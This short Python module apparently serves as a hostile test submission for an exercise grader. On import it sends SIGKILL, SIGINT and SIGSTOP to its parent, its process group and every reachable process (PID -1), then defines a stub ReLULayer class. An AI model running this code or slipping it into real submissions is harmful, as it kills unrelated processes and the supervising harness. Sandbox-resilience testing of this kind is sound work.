"""Sends signals to its parent, its group, and everybody."""
import os
import signal

from wrong import Wrong

for target in (os.getppid(), 0, -1, -os.getppid(), os.getpgid(0)):
    for send in (os.kill, os.killpg):
        for number in (signal.SIGKILL, signal.SIGINT, signal.SIGSTOP):
            try:
                send(target, number)
                print("SENT", target)
            except OSError:
                pass


class ReLULayer(Wrong):
    pass
